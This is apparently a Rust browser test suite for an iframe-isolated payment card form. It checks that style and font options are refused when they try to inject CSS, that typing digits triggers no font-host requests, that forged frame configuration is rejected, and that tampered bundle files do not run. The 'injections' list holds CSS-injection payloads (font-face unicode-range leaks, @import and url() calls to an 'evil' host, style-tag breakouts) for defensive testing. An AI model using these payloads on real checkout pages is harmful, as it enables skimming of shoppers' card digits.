//! The isolation promise against a hostile host page, in real Chromium against the real
//! binary: style and font options that try to become CSS are refused (by the host part and,
//! when a page talks to a frame directly, by the frame itself), and accepted web fonts are
//! all fetched when the frames are configured, so the requests the frames make while the
//! shopper types digits are exactly those made without typing.

mod support;

use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde_json::{json, Value};
use support::{browser, encrypt_last4, eval, next_year_yy, open_lab, type_in_frame, Server};

/// A loopback port that counts the connections made to it (a font host that never answers
/// TLS: the browser's attempt is what is counted).
struct CountingHost {
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl CountingHost {
    fn start() -> CountingHost {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&connections);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                counter.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        CountingHost { port, connections }
    }

    fn count(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

fn counts(hosts: &[CountingHost]) -> Vec<usize> {
    hosts.iter().map(CountingHost::count).collect()
}

/// Waits until the counts have not changed for a second; returns them.
async fn settled(hosts: &[CountingHost]) -> Vec<usize> {
    support::stable(
        || std::future::ready(counts(hosts)),
        Duration::from_secs(1),
        Duration::from_secs(15),
    )
    .await
}

fn lab_url(server: &Server, options: &[(&str, Value)]) -> String {
    let mut url = format!("{}/lab.html?x=1", server.merchant);
    for (name, value) in options {
        url.push_str(&format!(
            "&{name}={}",
            urlencoding::encode(&value.to_string())
        ));
    }
    url
}

#[tokio::test]
async fn typing_digits_makes_no_request_that_fonts_could_choose() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let hosts: Vec<CountingHost> = (0..4).map(|_| CountingHost::start()).collect();
    let fonts: Vec<Value> = hosts
        .iter()
        .enumerate()
        .map(|(i, h)| {
            json!({"family": format!("Leak{i}"), "src": format!("https://127.0.0.1:{}/digit-{i}.woff2", h.port)})
        })
        .collect();
    let styles = json!({"base": {"fontFamily": "Leak0, Leak1, Leak2, Leak3, monospace"}});
    let browser = browser().await;
    let c = &browser.client;
    open_lab(
        c,
        &lab_url(&server, &[("fonts", json!(fonts)), ("styles", styles)]),
        "ready",
    )
    .await;
    let before = settled(&hosts).await;
    assert!(
        before.iter().all(|n| *n > 0),
        "every face was asked for when the frames were configured: {before:?}"
    );

    type_in_frame(c, 0, "4242424242424242").await;
    type_in_frame(c, 1, &format!("12{:02}", next_year_yy())).await;
    type_in_frame(c, 2, "4739").await;
    let after = settled(&hosts).await;
    assert_eq!(
        after, before,
        "typing digits made the frames contact a font host"
    );
    assert_eq!(
        encrypt_last4(c).await,
        json!("4242"),
        "the fonts did not break the form"
    );
    browser.close().await;
}

/// Options a skimmer script on the host page might pass, each with the path its error names.
fn injections(attacker: u16) -> Vec<(&'static str, &'static str, Value)> {
    let evil = format!("https://127.0.0.1:{attacker}");
    vec![
        (
            "fonts",
            "fonts[0].src",
            json!([{"family": "Leak", "src": format!("{evil}/f\");}}@font-face{{font-family:Leak;src:url({evil}/3);unicode-range:U+33")}]),
        ),
        (
            "fonts",
            "fonts[0].unicodeRange",
            json!([{"family": "Leak", "src": format!("{evil}/3"), "unicodeRange": "U+33"}]),
        ),
        (
            "fonts",
            "fonts[0].src",
            json!([{"family": "Leak", "src": format!("//127.0.0.1:{attacker}/f")}]),
        ),
        (
            "fonts",
            "fonts[0].src",
            json!([{"family": "Leak", "src": "data:font/woff2;base64,AAAA"}]),
        ),
        (
            "fonts",
            "fonts[0].weight",
            json!([{"family": "Leak", "src": format!("{evil}/f"), "weight": "400;unicode-range:U+30"}]),
        ),
        (
            "styles",
            "styles.base.fontFamily",
            json!({"base": {"fontFamily": format!("x; }} @import url({evil}/x.css)")}}),
        ),
        (
            "styles",
            "styles.base.backgroundColor",
            json!({"base": {"backgroundColor": format!("url({evil}/bg)")}}),
        ),
        (
            "styles",
            "styles.base.color",
            json!({"base": {"color": "red</style><style>input{color:blue}"}}),
        ),
        (
            "styles",
            "styles.base.color",
            json!({"base": {"color": "\\72 ed"}}),
        ),
        (
            "styles",
            "styles.base.color",
            json!({"base": {"color": "a".repeat(10_000)}}),
        ),
    ]
}

#[tokio::test]
async fn style_and_font_injections_are_refused_by_host_and_frame() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let attacker = CountingHost::start();
    let browser = browser().await;
    let c = &browser.client;

    // At mount: refused, naming the option (the frames check styles and fonts; the page
    // bundle has no style grammar), and mount() rejects.
    for (option, path, value) in injections(attacker.port) {
        open_lab(c, &lab_url(&server, &[(option, value)]), "error").await;
        let error = eval(c, "return window.lab.error").await;
        assert_eq!(error["code"], "INVALID_OPTION", "{path}");
        let message = error["message"].as_str().unwrap();
        assert!(message.starts_with(path), "{path}: {message}");
    }

    // After mount, through update(): the promise rejects naming the option, and nothing
    // changes: a good update after it still applies, in every frame.
    open_lab(c, &lab_url(&server, &[]), "ready").await;
    for (option, path, value) in injections(attacker.port) {
        let error = lab_update(c, json!({ option: value })).await;
        assert!(
            error.starts_with(&format!("INVALID_OPTION {path}")),
            "update: {path}: {error}"
        );
    }
    let good = json!({ "styles": { "base": { "color": "rgb(1, 2, 3)" } } });
    assert_eq!(lab_update(c, good).await, "applied");
    assert_eq!(frame_colours(c).await, vec![json!("rgb(1, 2, 3)"); 3]);

    // A page that skips the host part and configures a secure frame itself, by message or
    // in the frame's URL: the frame checks the options again and refuses them.
    let refused = |seen: Value, path: &str| match headless::Engine::from_env() {
        // Firefox names no parent origin: the URL's options wait for the page's hello answer.
        headless::Engine::Firefox => seen == json!(["hello", format!("refused:{path}")]),
        // Chromium and WebKit name it (`location.ancestorOrigins`): the frame decides at once.
        headless::Engine::Chromium | headless::Engine::WebKit => {
            seen == json!([format!("refused:{path}")])
        }
    };
    for (option, path, value) in injections(attacker.port) {
        let forged = json!({ option: value });
        let seen = configure_by_hand(c, &server.secure_origin, "securityCode", None, &forged).await;
        assert_eq!(
            seen,
            json!(["hello", format!("refused:{path}")]),
            "forged configure: {path}"
        );
        let seen = configure_by_hand(
            c,
            &server.secure_origin,
            "securityCode",
            Some(&forged),
            &forged,
        )
        .await;
        assert!(
            refused(seen.clone(), path),
            "forged URL options: {path}: {seen}"
        );
    }
    assert_eq!(
        settled(std::slice::from_ref(&attacker)).await,
        vec![0],
        "no request ever reached the attacker's host"
    );
    browser.close().await;
}

/// Each frame's input colour, in frame order.
async fn frame_colours(c: &fantoccini::Client) -> Vec<Value> {
    let mut colours = Vec::new();
    for index in 0..3u16 {
        c.enter_frame(index).await.unwrap();
        colours.push(
            eval(
                c,
                "return getComputedStyle(document.querySelector('input')).color",
            )
            .await,
        );
        c.enter_parent_frame().await.unwrap();
    }
    colours
}

/// A frame whose answers are lost (hung, or gone astray) while an update waits for it:
/// `update()` rejects with `FRAME_TIMEOUT` after the frame timeout, the frames that took the
/// options go back to the ones before, and the form still takes the next update.
#[tokio::test]
async fn an_update_a_frame_never_answers_times_out_and_is_undone() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let browser = browser().await;
    let c = &browser.client;
    open_lab(
        c,
        &lab_url(&server, &[("frameTimeout", json!(1500))]),
        "ready",
    )
    .await;
    let before = frame_colours(c).await;

    // The last frame's answers are lost on their way to the component (the lab's listener,
    // registered before the component's, drops them).
    eval(
        c,
        "const frame = document.querySelectorAll('iframe')[2].contentWindow; \
         window.lab.lose = (e) => e.source === frame; return 1",
    )
    .await;

    let started = std::time::Instant::now();
    let outcome = lab_update(
        c,
        json!({ "styles": { "base": { "color": "rgb(4, 5, 6)" } } }),
    )
    .await;
    assert!(outcome.starts_with("FRAME_TIMEOUT"), "{outcome}");
    assert!(
        started.elapsed() >= Duration::from_millis(1400),
        "rejected only after the frame timeout: {:?}",
        started.elapsed()
    );
    let undone = support::stable(
        || frame_colours(c),
        Duration::from_millis(500),
        Duration::from_secs(10),
    )
    .await;
    assert_eq!(undone, before, "the frames that took the update went back");

    eval(c, "window.lab.lose = null; return 1").await;
    let good = json!({ "styles": { "base": { "color": "rgb(7, 8, 9)" } } });
    assert_eq!(lab_update(c, good).await, "applied");
    assert_eq!(frame_colours(c).await, vec![json!("rgb(7, 8, 9)"); 3]);
    browser.close().await;
}

/// What the lab's `card.update(options)` settles with: `applied`, or the error's code and
/// message.
async fn lab_update(c: &fantoccini::Client, options: Value) -> String {
    let settled = c
        .execute_async(
            "const [options, done] = arguments; window.lab.card.update(options).then(() => done('applied'), (e) => done(e.code + ' ' + e.message));",
            vec![options],
        )
        .await
        .unwrap();
    settled.as_str().unwrap().to_owned()
}

/// The messages a frame made by hand, bypassing the host part, sends until `ready`,
/// `failed` or `refused`. Its URL carries `url_options` (none: no options), and the page answers its
/// `hello` with `options`; both over the demo's client key unless they name another.
async fn configure_by_hand(
    c: &fantoccini::Client,
    gateway: &str,
    field: &str,
    url_options: Option<&Value>,
    options: &Value,
) -> Value {
    c.execute_async(
        r#"const [gateway, field, urlOptions, options, done] = arguments;
        (async () => {
        const { clientKey } = await fetch('/api/config').then(r => r.json());
        const channel = 'cd'.repeat(16);
        const frame = document.createElement('iframe');
        // As the component makes them (Firefox then names no parent origin).
        frame.referrerPolicy = 'no-referrer';
        const inUrl = urlOptions
          ? `&options=${encodeURIComponent(JSON.stringify({ clientKey, ...urlOptions }))}`
          : '';
        frame.src = `${gateway}/frames/${encodeURIComponent(clientKey)}/field.html#field=${field}&channel=${channel}${inUrl}`;
        const seen = [];
        window.addEventListener('message', (e) => {
          const d = e.data;
          if (!d || d.channel !== channel) return;
          // A refusal names the option it refused (its reason starts with the path).
          const about = d.code ?? (d.type === 'refused' ? d.reason.split(':')[0] : null);
          seen.push(about ? `${d.type}:${about}` : d.type);
          if (d.type === 'hello') {
            frame.contentWindow.postMessage({ paykka: 1, channel, field, type: 'configure',
              options: { clientKey, ...options } }, gateway);
          }
          if (['failed', 'refused', 'ready'].includes(d.type)) { frame.remove(); done(seen); }
        });
        document.body.appendChild(frame);
        setTimeout(() => done(seen), 10000);
        })();"#,
        vec![
            json!(gateway),
            json!(field),
            url_options.cloned().unwrap_or(Value::Null),
            options.clone(),
        ],
    )
    .await
    .unwrap()
}

/// Where the browser names a frame's parent (Chromium), the options in the frame's URL
/// configure it at once, without the hello round trip, and their client key decides which
/// key the frame fetches (for the parent's real origin). Elsewhere (Firefox, under the
/// frames' `no-referrer` policy) the frame says hello and the page's answer decides.
#[tokio::test]
async fn a_frame_configures_itself_from_its_url_where_the_browser_names_its_parent() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let browser = browser().await;
    let c = &browser.client;
    open_lab(c, &lab_url(&server, &[]), "ready").await;

    let gateway = &server.secure_origin;
    let none = json!({});
    let unknown = json!({ "clientKey": "ck_unknown" });
    let ready = json!(["report", "height", "ready"]);
    let hello_ready = json!(["hello", "report", "height", "ready"]);
    let hello_refused = json!(["hello", "failed:KEY_FETCH_FAILED"]);

    let seen = configure_by_hand(c, gateway, "securityCode", None, &none).await;
    assert_eq!(
        seen, hello_ready,
        "no options in the URL: hello, then configure"
    );
    let seen = configure_by_hand(c, gateway, "securityCode", None, &unknown).await;
    assert_eq!(seen, hello_refused, "an unknown key configured");

    let from_url = configure_by_hand(c, gateway, "securityCode", Some(&none), &unknown).await;
    let unknown_in_url = configure_by_hand(c, gateway, "securityCode", Some(&unknown), &none).await;
    match headless::Engine::from_env() {
        headless::Engine::Chromium | headless::Engine::WebKit => {
            assert_eq!(from_url, ready, "the URL's options, no hello");
            assert_eq!(
                unknown_in_url,
                json!(["failed:KEY_FETCH_FAILED"]),
                "an unknown key in the URL"
            );
        }
        headless::Engine::Firefox => {
            assert_eq!(from_url, hello_refused, "the page's answer decides");
            assert_eq!(unknown_in_url, hello_ready, "the page's answer decides");
        }
    }
    browser.close().await;
}

/// Copies the built package into a folder of its own, to be changed under a running server.
fn package_copy() -> tempfile::TempDir {
    fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
        std::fs::create_dir_all(to).unwrap();
        for entry in std::fs::read_dir(from).unwrap() {
            let entry = entry.unwrap();
            let target = to.join(entry.file_name());
            if entry.file_type().unwrap().is_dir() {
                copy_dir(&entry.path(), &target);
            } else {
                std::fs::copy(entry.path(), target).unwrap();
            }
        }
    }
    let copy = tempfile::tempdir().unwrap();
    copy_dir(&support::pkg_dir(), copy.path());
    copy
}

#[tokio::test]
async fn a_frame_file_changed_after_the_page_pinned_it_does_not_run() {
    // The frame page pins the bundle (import map) and its wasm (the fetch's integrity) by the
    // hashes of the files the service found at start. Changed afterwards — still valid
    // JavaScript, still a valid wasm — they must not run: the frames never come up.
    let browser = browser().await;
    let c = &browser.client;
    let tamperings: [(&str, &[u8]); 2] = [
        ("paykka_web_frame.js", b"\nglobalThis.tampered = true;\n"),
        // A custom section (id 0, 5 bytes: a 4-byte name) keeps the module valid.
        (
            "paykka_web_frame_bg.wasm",
            &[0, 5, 4, b't', b'a', b'm', b'p'],
        ),
    ];
    for (file, appended) in tamperings {
        let pkg = package_copy();
        let data = tempfile::tempdir().unwrap();
        let server = Server::start_with(
            data.path(),
            &[
                "--merchant-addr",
                "127.0.0.1:0",
                "--pkg-dir",
                pkg.path().to_str().unwrap(),
            ],
        );
        let lab = format!("{}/lab.html?frameTimeout=3000", server.merchant);
        open_lab(c, &lab, "ready").await;
        assert_eq!(
            encrypt_last4(c).await,
            "VALIDATION",
            "{file}: untouched, it runs"
        );

        let path = pkg.path().join(file);
        let mut bytes = std::fs::read(&path).unwrap();
        bytes.extend_from_slice(appended);
        std::fs::write(&path, bytes).unwrap();
        // A later Last-Modified, so a browser's revalidation gets the new bytes (the write
        // may fall in the same second as the first load).
        let later = std::time::SystemTime::now() + Duration::from_secs(3600);
        std::fs::File::options()
            .write(true)
            .open(&path)
            .unwrap()
            .set_modified(later)
            .unwrap();
        open_lab(c, &lab, "error").await;
        assert_eq!(
            eval(c, "return window.lab.error.code").await,
            "FRAME_TIMEOUT",
            "{file}: changed, it does not run"
        );
    }
    browser.close().await;
}
